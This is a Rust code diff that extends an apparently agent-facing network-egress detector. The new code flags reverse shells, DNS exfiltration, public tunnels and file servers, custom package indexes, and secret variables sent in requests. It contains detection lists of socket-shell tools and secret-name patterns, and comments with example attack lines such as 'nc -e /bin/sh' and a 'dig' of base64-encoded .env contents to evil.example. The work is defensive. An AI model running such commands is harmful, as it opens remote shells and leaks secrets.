@@ -9,7 +9,119 @@
 use super::{paths, Context, Flag, Signal};
 use crate::event::{Boundary, Event, ToolKind};
 
-pub const FLAGS: &[&str] = &["net.fetch", "net.download", "net.upload"];
+pub const FLAGS: &[&str] = &[
+    "net.fetch",
+    "net.download",
+    "net.upload",
+    "net.reverse_shell",
+    "net.expose",
+    "net.secret_variable",
+    "net.package_index",
+];
+
+/// Network tools that connect or listen (`nc HOST PORT`), and their options that hand the
+/// connection to a program (`ncat --exec /bin/sh`).
+const SOCKET_TOOLS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "openssl"];
+const SOCKET_EXEC_OPTS: &[&str] = &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"];
+/// `socat` address types that run a program, and those that are network endpoints.
+const SOCAT_EXEC_ADDRESSES: &[&str] = &["exec:", "system:"];
+const SOCAT_NET_ADDRESSES: &[&str] = &["tcp", "udp", "ssl", "openssl", "sctp", "dccp"];
+
+/// DNS lookup tools: a name built from command output is data sent to that domain's servers.
+const DNS_TOOLS: &[&str] = &[
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "delv",
+    "kdig",
+    "ping",
+    "ping6",
+    "getent",
+    "resolvectl",
+];
+
+/// Tunnels that publish a local port on the internet, with the subcommand that does it (or
+/// `""` for any).
+const TUNNELS: &[(&str, &str)] = &[
+    ("ngrok", ""),
+    ("cloudflared", "tunnel"),
+    ("lt", ""),
+    ("localtunnel", ""),
+    ("bore", "local"),
+    ("zrok", "share"),
+    ("tailscale", "funnel"),
+    ("loophole", ""),
+    ("pinggy", ""),
+    ("localxpose", ""),
+    ("telebit", ""),
+];
+/// Static file servers and the options naming the address they bind.
+const FILE_SERVERS: &[(&str, &[&str])] = &[
+    ("http.server", &["--bind", "-b"]),
+    ("SimpleHTTPServer", &[]),
+    ("http-server", &["-a", "--address"]),
+];
+/// Addresses that mean every interface.
+const ALL_INTERFACES: &[&str] = &["0.0.0.0", "::", "[::]", "*", "0"];
+
+/// Package managers and the options naming the index or registry they install from.
+const PACKAGE_INDEX_OPTS: &[(&[&str], &[&str])] = &[
+    (
+        &["pip", "pip3", "uv", "pipx", "pipenv", "pdm", "poetry"],
+        &[
+            "--index-url",
+            "-i",
+            "--extra-index-url",
+            "--find-links",
+            "-f",
+            "--default-index",
+            "--index",
+        ],
+    ),
+    (
+        &["npm", "pnpm", "yarn", "npx", "bun", "bunx"],
+        &["--registry"],
+    ),
+    (&["gem", "bundle"], &["--source", "-s"]),
+    (&["cargo"], &["--index"]),
+];
+/// `… config set KEY URL` keys that switch the package index for later installs.
+const PACKAGE_INDEX_KEYS: &[&str] = &[
+    "registry",
+    "global.index-url",
+    "global.extra-index-url",
+    "index-url",
+    "npmRegistryServer",
+];
+
+/// Segments of a variable name that say it holds a secret (`OPENAI_API_KEY`, `GH_TOKEN`).
+const SECRET_NAME_PARTS: &[&str] = &[
+    "TOKEN",
+    "SECRET",
+    "SECRETS",
+    "PASSWORD",
+    "PASSWD",
+    "PASS",
+    "CREDENTIAL",
+    "CREDENTIALS",
+    "APIKEY",
+    "PAT",
+    "PRIVATE",
+];
+/// Short vendor prefixes of secret variables and the domain word they stand for.
+const VENDOR_PREFIXES: &[(&str, &str)] = &[
+    ("gh", "github"),
+    ("aws", "amazonaws"),
+    ("gcp", "googleapis"),
+    ("google", "googleapis"),
+    ("hf", "huggingface"),
+    ("cf", "cloudflare"),
+    ("gl", "gitlab"),
+    ("npm", "npmjs"),
+    ("dd", "datadoghq"),
+    ("az", "azure"),
+];
 
 /// Programs whose output is downloaded content (a pipe from them into a shell runs it).
 pub const DOWNLOADERS: &[&str] = &[
@@ -290,6 +402,7 @@ pub fn analyze_command(
     file_reads: &mut Vec<String>,
 ) -> NetFacts {
     let mut facts = NetFacts::default();
+    channels(program, args, detail, out);
     match program {
         "curl" | "curlie" => curl(args, stdin, detail, ctx, out, file_reads, &mut facts),
         "wget" => {
@@ -582,10 +695,16 @@ fn push_upload(
     files: Vec<super::PathFact>,
     _ctx: &Context,
 ) {
+    // An upload whose destination is not known here is never to a local host.
+    let hosts = if hosts.is_empty() {
+        vec!["(unknown)".to_string()]
+    } else {
+        hosts.to_vec()
+    };
     out.push(
         Flag::new("net.upload")
             .detail(detail)
-            .hosts(hosts.to_vec())
+            .hosts(hosts)
             .paths(files),
     );
 }
@@ -704,6 +823,339 @@ fn remote_copy(
             out.push(Flag::new("net.download").detail(detail).hosts(hosts));
         }
     }
+}
+
+/// Egress channels besides plain transfers: reverse shells, published ports and tunnels,
+/// DNS lookups of names built from data, secret variables sent out, and package indexes.
+fn channels(program: &str, args: &[String], detail: &str, out: &mut Vec<Flag>) {
+    if SOCKET_TOOLS.contains(&program) {
+        if let Some(hosts) = socket_shell(program, args) {
+            out.push(
+                Flag::new("net.reverse_shell")
+                    .detail(detail)
+                    .hosts(hosts)
+                    .attr("program", program),
+            );
+        }
+    }
+    if let Some(lang) = super::shell::code::interpreter(program) {
+        if let super::shell::code::CodeSource::Inline(codes) =
+            super::shell::code::code_source(lang, args)
+        {
+            for c in codes {
+                if let Some(hosts) = super::shell::code::reverse_shell(&c) {
+                    out.push(
+                        Flag::new("net.reverse_shell")
+                            .detail(detail)
+                            .hosts(hosts)
+                            .attr("program", program),
+                    );
+                }
+            }
+        }
+    }
+    if DNS_TOOLS.contains(&program) {
+        dns_lookup(args, detail, out);
+    }
+    expose(program, args, detail, out);
+    package_index(program, args, detail, out);
+    secret_variables(program, args, detail, out);
+}
+
+/// `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:sh`: a socket handed to a program.
+fn socket_shell(program: &str, args: &[String]) -> Option<Vec<String>> {
+    let runs = if program == "socat" {
+        let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+        lower
+            .iter()
+            .any(|a| SOCAT_EXEC_ADDRESSES.iter().any(|p| a.starts_with(p)))
+            && lower
+                .iter()
+                .any(|a| SOCAT_NET_ADDRESSES.iter().any(|p| a.starts_with(p)))
+    } else {
+        args.iter().any(|a| {
+            SOCKET_EXEC_OPTS.contains(&a.as_str())
+                || a.starts_with("--exec=")
+                || a.starts_with("--sh-exec=")
+                || (a.starts_with("-e") && a.len() > 2 && !a.starts_with("--"))
+        })
+    };
+    runs.then(|| connection_hosts(program, args).unwrap_or_else(|| vec!["(listening)".into()]))
+}
+
+/// The hosts a socket tool connects to; `Some(["(listening)"])` when it listens; `None` for
+/// other programs.
+pub fn connection_hosts(program: &str, args: &[String]) -> Option<Vec<String>> {
+    if !SOCKET_TOOLS.contains(&program) {
+        return None;
+    }
+    let hosts: Vec<String> = if program == "socat" {
+        args.iter()
+            .filter(|a| {
+                let l = a.to_ascii_lowercase();
+                SOCAT_NET_ADDRESSES.iter().any(|p| l.starts_with(p)) && !l.contains("listen")
+            })
+            .filter_map(|a| a.split([':', ',']).nth(1).and_then(host_of))
+            .collect()
+    } else if program == "openssl" {
+        let i = args.iter().position(|a| a == "-connect")?;
+        args.get(i + 1)
+            .and_then(|a| host_of(a))
+            .into_iter()
+            .collect()
+    } else {
+        let mut skip = false;
+        args.iter()
+            .filter(|a| {
+                let take = !std::mem::take(&mut skip) && !a.starts_with('-');
+                skip = SOCKET_EXEC_OPTS.contains(&a.as_str())
+                    || matches!(a.as_str(), "-p" | "-s" | "-w" | "-i");
+                take
+            })
+            .filter(|a| !a.chars().all(|c| c.is_ascii_digit()) && !a.starts_with('/'))
+            .filter_map(|a| host_of(a))
+            .take(1)
+            .collect()
+    };
+    Some(if hosts.is_empty() {
+        vec!["(listening)".into()]
+    } else {
+        hosts
+    })
+}
+
+/// `dig $(cat .env | base64).evil.example`: a queried name built from data sends that data
+/// to the name servers of its fixed suffix.
+fn dns_lookup(args: &[String], detail: &str, out: &mut Vec<Flag>) {
+    for a in args
+        .iter()
+        .filter(|a| !a.starts_with('-') && !a.starts_with('+') && !a.starts_with('@'))
+    {
+        if !a.contains('$') {
+            continue;
+        }
+        let labels: Vec<&str> = a.split('.').collect();
+        let fixed: Vec<&str> = labels
+            .iter()
+            .rev()
+            .take_while(|l| {
+                !l.contains('$') && !l.contains('{') && !l.contains('}') && !l.is_empty()
+            })
+            .copied()
+            .collect();
+        if fixed.len() >= 2 && fixed.len() < labels.len() {
+            let host: Vec<&str> = fixed.into_iter().rev().collect();
+            out.push(
+                Flag::new("net.upload")
+                    .detail(detail)
+                    .hosts(vec![host.join(".").to_ascii_lowercase()])
+                    .attr("channel", "dns"),
+            );
+        }
+    }
+}
+
+/// Tunnels and file servers bound to every interface publish local files and ports.
+fn expose(program: &str, args: &[String], detail: &str, out: &mut Vec<Flag>) {
+    let first = args
+        .iter()
+        .find(|a| !a.starts_with('-'))
+        .map(|s| s.as_str());
+    let tunnel = TUNNELS
+        .iter()
+        .any(|(p, sub)| *p == program && (sub.is_empty() || first == Some(sub)));
+    let value_of = |opts: &[&str]| {
+        args.iter().enumerate().find_map(|(i, a)| {
+            opts.iter().find_map(|o| {
+                if a == o {
+                    args.get(i + 1).cloned()
+                } else {
+                    a.strip_prefix(&format!("{o}=")).map(str::to_string)
+                }
+            })
+        })
+    };
+    let server = FILE_SERVERS.iter().find(|(m, _)| {
+        program == *m || (args.iter().any(|a| a == "-m") && args.iter().any(|a| a == m))
+    });
+    let public_server = server.is_some_and(|(_, opts)| {
+        value_of(opts)
+            .is_some_and(|v| ALL_INTERFACES.contains(&v.trim_matches(['[', ']'])) || v == "::")
+    }) || (program.starts_with("php")
+        && value_of(&["-S"]).is_some_and(|v| {
+            let host = v.rsplit_once(':').map_or(v.as_str(), |(h, _)| h);
+            ALL_INTERFACES.contains(&host)
+        }));
+    if tunnel || public_server {
+        let hosts: Vec<String> = args
+            .iter()
+            .filter_map(|a| arg_host(a).or_else(|| url_host(a)))
+            .collect();
+        out.push(
+            Flag::new("net.expose")
+                .detail(detail)
+                .hosts(hosts)
+                .attr("program", program),
+        );
+    }
+}
+
+/// `ssh -R …`: a port of this machine (or of its network) published on the remote host.
+pub fn ssh_forwards(args: &[String], detail: &str, out: &mut Vec<Flag>) {
+    const VALUE_OPTS: &[&str] = &[
+        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
+        "-Q", "-R", "-S", "-W", "-w", "-B",
+    ];
+    let mut remote = false;
+    let mut host = None;
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i].as_str();
+        let next = args.get(i + 1).map(|s| s.as_str()).unwrap_or("");
+        let short = a.starts_with('-') && !a.starts_with("--");
+        if (short && (a.starts_with("-R") || a.ends_with('R')))
+            || (a == "-o" && next.to_ascii_lowercase().starts_with("remoteforward"))
+        {
+            remote = true;
+        }
+        if a.starts_with('-') {
+            let last = format!("-{}", &a[a.len().saturating_sub(1)..]);
+            if VALUE_OPTS.contains(&a)
+                || (a.len() > 2
+                    && VALUE_OPTS.contains(&last.as_str())
+                    && !a[1..a.len() - 1].chars().any(|c| !c.is_ascii_alphabetic()))
+            {
+                i += 1;
+            }
+        } else if host.is_none() {
+            host = Some(a.rsplit('@').next().unwrap_or(a).to_ascii_lowercase());
+        }
+        i += 1;
+    }
+    if remote {
+        out.push(
+            Flag::new("net.expose")
+                .detail(detail)
+                .hosts(host.into_iter().collect())
+                .attr("program", "ssh -R"),
+        );
+    }
+}
+
+/// `pip install --index-url URL`, `npm config set registry URL`, `pip install URL`: packages
+/// from an index the policy may not know.
+fn package_index(program: &str, args: &[String], detail: &str, out: &mut Vec<Flag>) {
+    let Some((_, opts)) = PACKAGE_INDEX_OPTS
+        .iter()
+        .find(|(p, _)| p.contains(&program))
+    else {
+        return;
+    };
+    let mut urls: Vec<&str> = Vec::new();
+    for (i, a) in args.iter().enumerate() {
+        for o in *opts {
+            if a == o {
+                urls.extend(args.get(i + 1).map(|s| s.as_str()));
+            } else if let Some(v) = a.strip_prefix(&format!("{o}=")) {
+                urls.push(v);
+            }
+        }
+        if PACKAGE_INDEX_KEYS.contains(&a.as_str())
+            && i >= 2
+            && args[i - 1] == "set"
+            && args[..i - 1].iter().any(|x| x == "config")
+        {
+            urls.extend(args.get(i + 1).map(|s| s.as_str()));
+        }
+    }
+    // `pip install https://…/pkg.tar.gz`, `pip install git+https://…`
+    if args.iter().any(|a| a == "install") && program.starts_with("pip") || program == "uv" {
+        urls.extend(
+            args.iter()
+                .filter(|a| !a.starts_with('-') && a.contains("://"))
+                .map(|s| s.as_str()),
+        );
+    }
+    let hosts: Vec<String> = urls
+        .iter()
+        .filter_map(|u| url_host(u.trim_start_matches("git+")).or_else(|| host_of(u)))
+        .collect();
+    if !hosts.is_empty() {
+        out.push(
+            Flag::new("net.package_index")
+                .detail(detail)
+                .hosts(hosts)
+                .attr("program", program),
+        );
+    }
+}
+
+/// Whether a variable name says it holds a secret.
+fn secret_name(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    upper.ends_with("_KEY") || upper.split('_').any(|seg| SECRET_NAME_PARTS.contains(&seg))
+}
+
+/// `curl -H "Authorization: Bearer $OPENAI_API_KEY" https://x`: a secret variable sent with
+/// a request. `vendor_match` says the host is the variable's own service (`OPENAI_*` to
+/// `api.openai.com`).
+fn secret_variables(program: &str, args: &[String], detail: &str, out: &mut Vec<Flag>) {
+    if !(DOWNLOADERS.contains(&program) || SOCKET_TOOLS.contains(&program)) {
+        return;
+    }
+    let mut names: Vec<String> = Vec::new();
+    for a in args.iter().filter(|a| a.contains('$')) {
+        let mut rest = a.as_str();
+        while let Some(i) = rest.find('$') {
+            rest = &rest[i + 1..];
+            let r = rest.strip_prefix('{').unwrap_or(rest);
+            let end = r
+                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                .unwrap_or(r.len());
+            let name = &r[..end];
+            if !name.is_empty() && secret_name(name) && !names.iter().any(|n| n == name) {
+                names.push(name.to_string());
+            }
+        }
+    }
+    if names.is_empty() {
+        return;
+    }
+    let mut hosts: Vec<String> = args
+        .iter()
+        .filter(|a| !a.starts_with('-'))
+        .filter_map(|a| {
+            if a.contains("://") {
+                url_host(a)
+            } else if looks_like_url(a) {
+                host_of(a)
+            } else {
+                None
+            }
+        })
+        .collect();
+    hosts.dedup();
+    if hosts.is_empty() {
+        hosts.push("(unknown)".into());
+    }
+    let vendor_match = names.iter().all(|n| {
+        let prefix = n.split('_').next().unwrap_or("").to_ascii_lowercase();
+        let word = VENDOR_PREFIXES
+            .iter()
+            .find(|(p, _)| *p == prefix)
+            .map_or(prefix.as_str(), |(_, w)| w);
+        word.len() >= 3
+            && hosts
+                .iter()
+                .all(|h| h.split('.').any(|label| label == word))
+    });
+    out.push(
+        Flag::new("net.secret_variable")
+            .detail(detail)
+            .hosts(hosts)
+            .attr("variables", names)
+            .attr("vendor_match", vendor_match),
+    );
 }
 
 #[cfg(test)]
